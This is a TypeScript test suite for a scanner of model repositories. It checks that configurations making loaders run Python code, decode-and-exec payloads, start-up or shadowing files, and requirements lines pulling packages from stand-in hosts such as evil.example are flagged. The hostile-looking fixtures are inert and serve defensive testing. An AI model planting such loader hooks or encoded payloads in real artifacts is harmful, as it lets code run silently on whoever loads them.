import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { assess } from '../../../src/pipeline/assess.ts';
import type { CodeApproval } from '../../../src/scan/repository/index.ts';
import { artifactOf, memoryFile } from '../../support/artifacts.ts';
import { type Built, buildZip } from '../../support/containers.ts';
import { fixtureFiles } from '../../support/scan-bytes.ts';

type Texts = Readonly<Record<string, string | Uint8Array>>;

async function scan(texts: Texts, { ref = 'hf://acme/model', approvedCode = [] as readonly CodeApproval[] } = {}) {
  const files = Object.entries(texts).map(([path, text]) => memoryFile(path, Buffer.from(text)));
  const assessment = await assess({ ...artifactOf(files), ref }, { approvedCode });
  // What advisories say of such files has tests of its own.
  const findings = assessment.findings.filter(({ ruleId }) => !ruleId.startsWith('loader.advisory.'));
  return {
    ...assessment,
    findings,
    verdicts: Object.fromEntries(assessment.files.map(({ path, verdict }) => [path, verdict])),
    told: findings.map(({ ruleId, file, message }) => `${ruleId} ${file}: ${message}`),
  };
}

const PLAIN = 'import torch\nclass M(torch.nn.Module):\n  def forward(self, x):\n    return x\n';
const RUNS = "import os\nos.system('true')\n";
const map = (text: string, key = 'AutoModel') => JSON.stringify({ auto_map: { [key]: text } });

describe('code that a configuration makes a loader run', () => {
  it('is suspicious, in one finding that names the configuration, the file and the call', async () => {
    const { verdicts, told, files } = await scan({ 'config.json': map('modeling.M'), 'modeling.py': PLAIN });
    expect(verdicts).toEqual({ 'config.json': 'suspicious', 'modeling.py': 'suspicious' });
    expect(told).toEqual([
      'hub.remote-code.own config.json: Names modeling.py (auto_map) as code that AutoModel.from_pretrained("acme/model", trust_remote_code=True) runs.',
    ]);
    expect(files[1]?.reasons).toContain('modeling.py: config.json (auto_map) makes a loader run it');
  });

  it('is malicious where it reaches a process, and says where', async () => {
    const { verdicts, told } = await scan({ 'config.json': map('modeling.M'), 'modeling.py': RUNS });
    expect(verdicts['modeling.py']).toBe('malicious');
    expect(told).toContain(
      'python.armed-call modeling.py: Calls os.system when it is imported (line 2); config.json (auto_map) makes AutoModel.from_pretrained("acme/model", trust_remote_code=True) run this file.',
    );
  });

  it('counts what the class that is loaded calls, and not what only a script calls', async () => {
    const other = `import os\nclass M:\n  def __init__(self):\n    helper()\ndef helper():\n  os.system('x')\ndef train():\n  pass\n`;
    const table = `import os\ndef helper():\n  os.system('x')\nSTEPS = {'a': helper}\nclass M:\n  def forward(self, x):\n    return STEPS['a']()\n`;
    expect((await scan({ 'config.json': map('m.M'), 'm.py': table })).verdicts['m.py']).toBe('malicious');
    const script = `import os\nclass M: pass\ndef export():\n  os.system('x')\nif __name__ == '__main__':\n  export()\n`;
    expect((await scan({ 'config.json': map('m.M'), 'm.py': other })).verdicts['m.py']).toBe('malicious');
    expect((await scan({ 'config.json': map('m.M'), 'm.py': script })).verdicts['m.py']).toBe('suspicious');
  });

  it('is malicious through a third file, whose function is handed on', async () => {
    const { verdicts } = await scan({
      'config.json': map('m.M'),
      'm.py': 'from . import h, x\nRUN = {"a": x.go}\nclass M:\n  def forward(self, t):\n    return RUN["a"](h.d(t))\n',
      'h.py': 'import base64\ndef d(t):\n  return base64.b64decode(t)\n',
      'x.py': 'import os\ndef go(t):\n  os.popen(t)\n',
    });
    expect(Object.values(verdicts)).toContain('malicious');
  });

  it.each([
    [
      'a bento that was built',
      { 'bento.yaml': 'service: "service:Svc"\n', 'src/service.py': RUNS, 'apis/openapi.yaml': 'openapi: 3.0.2\n' },
      'src/service.py',
    ],
    [
      'a command of an installation',
      { 'setup.cfg': '[options]\ncmdclass =\n    build_py = tools.build.Build\n', 'tools/build.py': RUNS },
      'tools/build.py',
    ],
  ])('is found in %s', async (_, files: Texts, path) => {
    expect((await scan(files)).verdicts[path]).toBe('malicious');
  });

  it('is not in settings of a package that name no code', async () => {
    const { verdicts, told } = await scan({
      'setup.cfg': '[metadata]\nname = x\n[options]\npackages = find:\n',
      'apis/openapi.yaml': 'openapi: 3.0.2\n',
    });
    expect([verdicts, told]).toEqual([{ 'setup.cfg': 'not-assessed', 'apis/openapi.yaml': 'clean' }, []]);
  });

  it('is followed through what it imports of the artifact', async () => {
    const { verdicts } = await scan({
      'config.json': map('m.M'),
      'm.py': 'from .parts.layers import L\nclass M(L): pass\n',
      'parts/layers.py': 'from ..util import f\nclass L: pass\n',
      'util.py': RUNS,
      'train.py': RUNS,
    });
    expect(verdicts).toEqual({
      'config.json': 'suspicious',
      'm.py': 'suspicious',
      'parts/layers.py': 'suspicious',
      'util.py': 'malicious',
      'train.py': 'not-assessed',
    });
  });

  it('is another repository, or is gone', async () => {
    const { told, verdicts } = await scan({
      'config.json': JSON.stringify({ auto_map: { A: 'other/repo--their.C', B: 'gone.E' } }),
    });
    expect(told).toEqual([
      'hub.remote-code.foreign config.json: Names code of the repository other/repo (auto_map), which A.from_pretrained("acme/model", trust_remote_code=True) downloads and runs.',
      'hub.remote-code.own config.json: Names gone.py (auto_map), which is not in this artifact, as code that B.from_pretrained("acme/model", trust_remote_code=True) runs.',
    ]);
    expect(verdicts['config.json']).toBe('suspicious');
  });

  it('is own under the full name of the repository, unless the artifact is a local copy', async () => {
    const rules = async (ref: string) =>
      (await scan({ 'config.json': map('acme/model--modeling.M') }, { ref })).findings.map(({ ruleId }) => ruleId);
    expect(await rules('hf://acme/model@main')).toEqual(['hub.remote-code.own']);
    expect(await rules('./model')).toEqual(['hub.remote-code.foreign']);
    expect(await rules('hf://acme/model-gguf')).toEqual(['hub.remote-code.foreign']);
  });

  it('is only noted where a configuration asks for trust and names none', async () => {
    const { told, verdicts } = await scan({
      'config.json': '{"trust_remote_code": true}',
      'tokenizer_config.json': '{"trust_remote_code": false}',
    });
    expect(told).toEqual([
      'hub.remote-code.asked config.json: Asks loaders to trust code of the repository (trust_remote_code).',
    ]);
    expect(verdicts['config.json']).toBe('not-assessed');
  });

  it.each<[string, Texts, string, string]>([
    [
      'a tokenizer',
      { 'tokenizer_config.json': '{"auto_map": {"AutoTokenizer": ["tok.T", null]}}', 'tok.py': RUNS },
      'tok.py',
      'AutoTokenizer.from_pretrained(',
    ],
    [
      'any other JSON file',
      { 'other/settings.json': map('m.M'), 'other/m.py': RUNS },
      'other/m.py',
      'AutoModel.from_pretrained(',
    ],
    [
      'a part whose module is at the root',
      { 'text_encoder/config.json': map('m.M'), 'm.py': RUNS },
      'm.py',
      'AutoModel.from_pretrained(',
    ],
    [
      'an escaped key',
      { 'config.json': '{"auto\\u005fmap": {"AutoModel": "m.M"}}', 'm.py': RUNS },
      'm.py',
      'AutoModel.from_pretrained(',
    ],
    [
      'UTF-16',
      { 'config.json': Buffer.from(`\ufeff${map('m.M')}`, 'utf16le'), 'm.py': RUNS },
      'm.py',
      'AutoModel.from_pretrained(',
    ],
    [
      'a custom pipeline of Transformers',
      { 'config.json': '{"custom_pipelines": {"my-task": {"impl": "p.P"}}}', 'p.py': RUNS },
      'p.py',
      'pipeline("my-task", model=',
    ],
    [
      'the class of a diffusers pipeline',
      { 'model_index.json': '{"_class_name": ["pipe", "P"]}', 'pipe.py': RUNS },
      'pipe.py',
      'DiffusionPipeline.from_pretrained(',
    ],
    [
      'a part of a diffusers pipeline',
      { 'model_index.json': '{"unet": ["net", "N"]}', 'unet/net.py': RUNS },
      'unet/net.py',
      'DiffusionPipeline.from_pretrained(',
    ],
    [
      'a module of Sentence Transformers',
      { 'modules.json': '[{"type": "custom_st.T"}]', 'custom_st.py': RUNS },
      'custom_st.py',
      'SentenceTransformer(',
    ],
    [
      'a loader of MLflow',
      { MLmodel: 'flavors:\n  python_function:\n    loader_module: mine\n    code: code\n', 'code/mine.py': RUNS },
      'code/mine.py',
      'mlflow.pyfunc.load_model(',
    ],
    [
      'a folder of MLflow',
      {
        MLmodel: 'flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    code: code\n',
        'code/numpy2.py': RUNS,
      },
      'code/numpy2.py',
      'mlflow.pyfunc.load_model(',
    ],
    [
      'a model of MLflow from code',
      {
        MLmodel:
          'flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: /home/me/agent.py\n',
        'agent.py': RUNS,
      },
      'agent.py',
      'mlflow.pyfunc.load_model(',
    ],
    [
      'a runtime of MLServer',
      { 'model-settings.json': '{"name": "m", "implementation": "rt.Runtime"}', 'rt.py': RUNS },
      'rt.py',
      'mlserver start',
    ],
    [
      'a service of BentoML',
      { 'bentofile.yaml': 'service: "service:Svc"\n', 'service.py': RUNS },
      'service.py',
      'bentoml serve',
    ],
    ['an endpoint', { 'handler.py': `${RUNS}class EndpointHandler: pass\n` }, 'handler.py', 'Inference Endpoint'],
    ['a model of Triton', { 'm/1/model.py': `${RUNS}class TritonPythonModel: pass\n` }, 'm/1/model.py', 'tritonserver'],
    [
      'a build backend',
      { 'pyproject.toml': '[build-system]\nbuild-backend = "backend"\nbackend-path = ["."]\n', 'backend.py': RUNS },
      'backend.py',
      'pip install',
    ],
    ['a start-up file', { 'sitecustomize.py': RUNS }, 'sitecustomize.py', 'python, at its start'],
    ['a file in the place of a module', { 'collections.py': RUNS }, 'collections.py', 'import collections'],
  ])('is found: %s', async (_, texts, file, call) => {
    const { verdicts, told } = await scan(texts);
    expect(verdicts[file]).toBe('malicious');
    expect(told.filter((text) => text.startsWith('python.armed-call')).join()).toContain(call);
  });

  it('is found in an archive of TorchServe, whose handler is a member', async () => {
    const members: readonly Built[] = [
      { name: 'MAR-INF/MANIFEST.json', data: '{"model": {"modelName": "x", "handler": "h.py:run"}}' },
      { name: 'h.py', data: RUNS },
    ];
    const { told, verdicts } = await scan({ 'm.mar': buildZip(members) });
    expect(verdicts['m.mar']).toBe('malicious');
    expect(told).toContain(
      'python.armed-call m.mar: Calls os.system when it is imported (line 2); MAR-INF/MANIFEST.json (handler) makes torchserve --start --models m.mar run this file.',
    );
  });

  it.each<[string, Texts]>([
    [
      'parts of diffusers itself',
      {
        'model_index.json':
          '{"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet"], "safety_checker": [null, null], "x": ["stable_diffusion", "C"]}',
      },
    ],
    [
      'modules of Sentence Transformers itself',
      { 'modules.json': '[{"type": "sentence_transformers.models.Transformer"}]' },
    ],
    [
      'a loader of MLflow itself',
      { MLmodel: 'flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    env: conda.yaml\n' },
    ],
    [
      'a handler of TorchServe itself',
      {
        'm.mar': buildZip([{ name: 'MAR-INF/MANIFEST.json', data: '{"model": {"handler": "image_classifier"}}' }]),
      },
    ],
    [
      'a training script',
      { 'train.py': RUNS, 'scripts/prepare.py': "import subprocess\nsubprocess.run(['bash', 'x.sh'])\n" },
    ],
    [
      'an installer that asks git',
      {
        'setup.py':
          "import subprocess\nfrom setuptools import setup\nexec(open('v.py').read())\nsubprocess.check_output(['git', 'rev-parse', 'HEAD'])\nsetup()\n",
      },
    ],
    ['a handler that no server knows', { 'handler.py': RUNS }],
    [
      'a module of a package',
      { 'src/mine/types.py': PLAIN, 'mine/collections.py': PLAIN, 'utils.py': PLAIN, 'test.py': PLAIN },
    ],
  ])('is not: %s', async (_, texts) => {
    const { files, findings } = await scan(texts);
    expect(findings).toEqual([]);
    for (const { verdict } of files) expect(['clean', 'not-assessed']).toContain(verdict);
  });

  it.each<[string, Texts, string]>([
    ['a library that nobody knows', { 'model_index.json': '{"unet": ["evil_module", "Net"]}' }, 'model_index.json'],
    ['a module of another package', { 'modules.json': '[{"type": "evil_pkg.Transformer"}]' }, 'modules.json'],
    [
      'a loader of another package',
      { MLmodel: 'flavors:\n  python_function:\n    loader_module: evil_loader\n' },
      'MLmodel',
    ],
  ])('is a package: %s', async (_, texts, file) => {
    const { verdicts, findings } = await scan(texts);
    expect(verdicts[file]).toBe('suspicious');
    expect(findings.map(({ ruleId }) => ruleId)).toEqual(['hub.remote-code.package']);
  });

  it('makes a configuration unknown that is too large to be read', async () => {
    const { verdicts } = await scan({
      'config.json': `{"auto_map": {"AutoModel": "m.M"}, "x": "${'x'.repeat(9 * 1024 * 1024)}"}`,
      'm.py': PLAIN,
    });
    expect(verdicts['config.json']).toBe('unknown');
  });

  it('follows files that import each other, however often they are named', async () => {
    const names = Array.from({ length: 60 }, (_, i) => `f${i}`);
    const texts = Object.fromEntries(
      names.map((name) => [`${name}.py`, names.map((other) => `from .${other} import M`).join('\n')]),
    );
    const auto_map = Object.fromEntries(Array.from({ length: 3_000 }, (_, i) => [`A${i}`, `f${i % 60}.M${i}`]));
    const { verdicts } = await scan({ ...texts, 'f59.py': RUNS, 'config.json': JSON.stringify({ auto_map }) });
    expect(verdicts['f0.py']).toBe('suspicious');
    expect(verdicts['f59.py']).toBe('malicious');
  });

  it('loses no verdict where there are more findings than are kept', async () => {
    const auto = (name: string) =>
      JSON.stringify({
        auto_map: Object.fromEntries(Array.from({ length: 400 }, (_, i) => [`A${i}`, `${name}${i}.M`])),
      });
    const { findings, verdicts } = await scan({
      'a.json': auto('a'),
      'b.json': auto('b'),
      'config.json': map('m.M'),
      'm.py': RUNS,
    });
    expect(findings.length).toBeLessThanOrEqual(500);
    expect(verdicts['m.py']).toBe('malicious');
  });
});

describe('files that tools run by their name', () => {
  it('are suspicious where installing or testing starts a program', async () => {
    for (const [path, text] of [
      ['setup.py', RUNS],
      ['tests/conftest.py', RUNS],
      ['setup.py', `import os\nif __name__ == '__main__':\n  os.system('x')\n`],
    ] as const) {
      const { verdicts, findings } = await scan({ [path]: text });
      expect(verdicts[path]).toBe('suspicious');
      expect(findings.map(({ ruleId }) => ruleId)).toEqual(['python.install-code']);
    }
  });

  it('are suspicious where Python runs them, whatever they hold', async () => {
    expect((await scan({ 'lib/usercustomize.py': '' })).verdicts).toEqual({ 'lib/usercustomize.py': 'clean' });
    expect((await scan({ 'lib/usercustomize.py': 'x = 1\n' })).verdicts).toEqual({
      'lib/usercustomize.py': 'suspicious',
    });
    expect((await scan({ 'torch.py': PLAIN })).findings.map(({ ruleId }) => ruleId)).toEqual([
      'python.shadowed-module',
    ]);
  });
});

describe('a payload', () => {
  const payload = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n";

  it('is malicious though nothing names its file', async () => {
    const { verdicts, told } = await scan({ 'train.py': payload });
    expect(verdicts['train.py']).toBe('malicious');
    expect(told).toEqual([
      'python.decoded-code train.py: Decodes text and hands it to exec, or decodes that name, when it is imported.',
    ]);
  });

  it('is malicious in a cell of a notebook', async () => {
    const notebook = {
      nbformat: 4,
      cells: [
        { cell_type: 'markdown', source: [payload] },
        { cell_type: 'code', source: ['!pip install x\n', payload] },
      ],
    };
    expect((await scan({ 'a.ipynb': JSON.stringify(notebook) })).verdicts['a.ipynb']).toBe('malicious');
    expect(
      (await scan({ 'a.ipynb': JSON.stringify({ nbformat: 4, cells: notebook.cells.slice(0, 1) }) })).verdicts[
        'a.ipynb'
      ],
    ).toBe('not-assessed');
  });
});

describe('code that is approved by its digest', () => {
  const approve = (text: string): CodeApproval => ({
    sha256: createHash('sha256').update(text).digest('hex'),
    owner: 'security',
    reason: 'reviewed',
    expires: '2099-01-31',
  });

  it('stays not-assessed, and says who approved it', async () => {
    const texts = { 'config.json': map('m.M'), 'm.py': RUNS };
    const { verdicts, told, files, ruleset } = await scan(texts, { approvedCode: [approve(RUNS)] });
    expect(verdicts).toEqual({ 'config.json': 'not-assessed', 'm.py': 'not-assessed' });
    expect(told).toEqual([
      'hub.remote-code.approved config.json: Names m.py (auto_map) as code that AutoModel.from_pretrained("acme/model", trust_remote_code=True) runs; security approved its digest until 2099-01-31.',
    ]);
    expect(files[1]?.reasons).toContain('m.py: approved by security until 2099-01-31: reviewed');
    expect(ruleset.digest).not.toBe((await scan(texts)).ruleset.digest);
  });

  it('is approved with all that it imports, or not at all', async () => {
    const texts = { 'config.json': map('m.M'), 'm.py': 'from .n import N\nclass M(N): pass\n', 'n.py': PLAIN };
    expect((await scan(texts, { approvedCode: [approve(texts['m.py'])] })).verdicts['m.py']).toBe('suspicious');
    const both = [approve(texts['m.py']), approve(texts['n.py'])];
    expect((await scan(texts, { approvedCode: both })).verdicts['n.py']).toBe('not-assessed');
  });

  it('is not approved where it is a payload', async () => {
    const payload = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
    expect(
      (await scan({ 'config.json': map('m.M'), 'm.py': payload }, { approvedCode: [approve(payload)] })).verdicts[
        'm.py'
      ],
    ).toBe('malicious');
  });
});

describe('a list of packages', () => {
  it.each([
    ['evil @ https://evil.example/x.whl', 'https://evil.example/x.whl'],
    ['--extra-index-url http://pypi.org/simple', 'not encrypted'],
    ['-i https://mirror.example/simple', 'none of the usual registries'],
    ['-fhttps://wheels.example', 'none of the usual registries'],
    ['git+http://github.com/a/b', 'not encrypted'],
    ['--trusted-host x.example', 'without a check of its certificate'],
    ['--find-links /tmp/wheels', 'outside of this folder'],
    ['-e ../other', 'outside of this folder'],
    ['--editable=/opt/x', 'outside of this folder'],
    ['https://user@evil.example/github.com/x.zip', 'none of the usual registries'],
  ])('is suspicious: %s', async (line, text) => {
    const { verdicts, told } = await scan({ 'requirements.txt': `torch\n${line}\n` });
    expect(verdicts['requirements.txt']).toBe('suspicious');
    expect(told.join()).toContain(text);
  });

  it.each([
    '--extra-index-url https://download.pytorch.org/whl/cu121',
    'git+https://github.com/huggingface/transformers',
    '-e .',
    '-e ./package',
    '# see http://x.example',
    'torch==2.0',
    'x @ https://files.pythonhosted.org/x.whl',
  ])('is ordinary: %s', async (line) => {
    expect((await scan({ 'requirements.txt': `torch\n${line}\n` })).verdicts['requirements.txt']).toBe('not-assessed');
  });
});

describe('the probes of repositories', () => {
  const FOLDER = 'fixtures/format-probes';
  const folders = [
    'repo-automap',
    'repo-automap-remote',
    'repo-diffusers',
    'repo-st-modules',
    'repo-setup',
    'repo-sitecustomize',
    'repo-requirements',
    'repo-pth',
    'repo-processor',
    'repo-tokenizer-automap',
    'mlflow-mlmodel',
    'hydra-yaml',
  ];

  it.each(folders)('%s is denied: it is suspicious or malicious', async (folder) => {
    const probes = [...fixtureFiles(FOLDER)].filter(([path]) => path.startsWith(`${folder}/`));
    expect(probes).not.toEqual([]);
    const { verdicts } = await scan(
      Object.fromEntries(probes.map(([path, bytes]) => [path.slice(folder.length + 1), bytes])),
      { ref: `./${folder}` },
    );
    expect(Object.values(verdicts).some((verdict) => verdict === 'suspicious' || verdict === 'malicious')).toBe(true);
  });
});
